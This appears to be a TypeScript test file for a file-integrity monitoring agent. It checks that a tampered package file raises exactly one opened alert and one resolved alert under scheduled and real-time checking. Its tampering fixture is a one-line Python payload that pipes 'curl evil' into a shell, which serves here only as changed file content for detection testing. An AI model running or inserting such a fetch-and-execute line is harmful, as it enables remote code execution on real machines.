// The agent as a real process on a fixture system: a tampered scoped file is alerted once when it
// opens and once when it resolves, whether the schedule or the real-time watcher finds it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { md5 } from '../helpers/fixture.js';
import {
  agentFixture,
  APP_CONTENT,
  APP_FILE,
  EVERY_2S,
  isAlert,
  isKind,
  isRunFinished,
  startAgent,
  YEARLY,
  type AlertLine,
  type RunFinishedLine,
} from '../helpers/agent.js';

const TAMPERED = 'import os; os.system("curl evil | sh")\n';

/** The finding `check --format json` gives for main.py with TAMPERED in it. */
const TAMPERED_FINDING = {
  package: 'app',
  path: APP_FILE,
  status: 'changed',
  conffile: false,
  expected: md5(APP_CONTENT),
  actual: md5(TAMPERED),
  detail: null,
};

test('agent: the scoped schedule finds a tampered file; one opened alert, no repeats, one resolved alert when restored', async (t) => {
  const { fx } = agentFixture(t);
  const agent = await startAgent({ t, fx, config: { scope: { packages: ['app'] }, schedule: { scoped: EVERY_2S, full: YEARLY }, watch: { enabled: false } } });
  // The start-up run: everything in scope (app and its dependency libapp) is clean.
  const first = await agent.waitFor<RunFinishedLine>('the start-up scoped run', isRunFinished('scoped'));
  assert.equal(first.line.outcome, 'clean', agent.transcript());
  assert.equal(first.line.packages, 2, 'app and libapp (with_dependencies defaults to true)');

  fx.write(APP_FILE, TAMPERED);
  const opened = await agent.waitFor<AlertLine>('findings.opened', isAlert('findings.opened'));
  assert.deepEqual(opened.line.event.findings, [TAMPERED_FINDING]);
  // The run that found it says so, then two more scheduled runs still see it and stay quiet.
  const found = await agent.waitFor('the run that found it', isRunFinished('scoped', 'findings'), { from: opened.index });
  const later = await agent.waitFor<RunFinishedLine>('a later scoped run', isRunFinished('scoped'), { from: found.index + 1 });
  const later2 = await agent.waitFor<RunFinishedLine>('another later scoped run', isRunFinished('scoped'), { from: later.index + 1 });
  assert.equal(later.line.outcome, 'findings');
  assert.equal(later2.line.outcome, 'findings');
  assert.equal(agent.alerts().length, 1, `one alert, not one per run\n${agent.transcript()}`);

  fx.write(APP_FILE, APP_CONTENT);
  const resolved = await agent.waitFor<AlertLine>('findings.resolved', isAlert('findings.resolved'), { from: later2.index });
  assert.deepEqual(resolved.line.event.findings, [TAMPERED_FINDING]);
  const resolving = await agent.waitFor<RunFinishedLine>('the run that resolved it', isRunFinished('scoped'), { from: resolved.index });
  assert.equal(resolving.line.outcome, 'clean');
  const clean = await agent.waitFor<RunFinishedLine>('a scoped run after the resolution', isRunFinished('scoped'), { from: resolving.index + 1 });
  assert.equal(clean.line.outcome, 'clean');
  assert.deepEqual(
    agent.alerts().map((a) => a.event.kind),
    ['findings.opened', 'findings.resolved'],
  );
  assert.notEqual(opened.line.event.id, resolved.line.event.id, 'each alert has its own id');
  assert.deepEqual(agent.junk, []);
  await agent.stop();
});

test('agent: the real-time watcher finds a tampered file between scheduled runs', async (t) => {
  const { fx } = agentFixture(t);
  const agent = await startAgent({ t, fx, config: { scope: { packages: ['app'] }, schedule: { scoped: YEARLY, full: YEARLY }, watch: { enabled: true } } });
  await agent.waitFor('watch.started', isKind('watch.started'));
  const first = await agent.waitFor<RunFinishedLine>('the start-up scoped run', isRunFinished('scoped'));
  assert.equal(first.line.outcome, 'clean', agent.transcript());

  fx.write(APP_FILE, TAMPERED);
  const opened = await agent.waitFor<AlertLine>('findings.opened', isAlert('findings.opened'), { from: first.index });
  assert.deepEqual(opened.line.event.findings, [TAMPERED_FINDING]);
  const run = await agent.waitFor<RunFinishedLine>('the real-time run', isRunFinished('realtime', 'findings'), { from: first.index });
  assert.equal(run.line.findings, 1);
  // One path of one package: one package checked, though the scope holds app and its dependency libapp.
  assert.deepEqual([run.line.packages, run.line.files], [1, 1], agent.transcript());
  assert.ok(agent.find((l) => l.kind === 'run.started' && l['schedule'] === 'realtime', first.index).length >= 1, 'the real-time run logged its start');
  assert.equal(agent.find(isRunFinished('scoped')).length, 1, 'no scheduled run found it: the watcher did');

  fx.write(APP_FILE, APP_CONTENT);
  const resolved = await agent.waitFor<AlertLine>('findings.resolved', isAlert('findings.resolved'), { from: opened.index });
  assert.deepEqual(resolved.line.event.findings, [TAMPERED_FINDING]);
  // The run that resolved it logs its end too.
  await agent.waitFor<RunFinishedLine>('the clean real-time run', isRunFinished('realtime', 'clean'), { from: opened.index });
  // The writes themselves are file.written alerts of their own (agent-blind.test.ts).
  assert.equal(agent.alerts().filter((a) => a.event.kind !== 'file.written').length, 2, agent.transcript());
  await agent.stop();
});
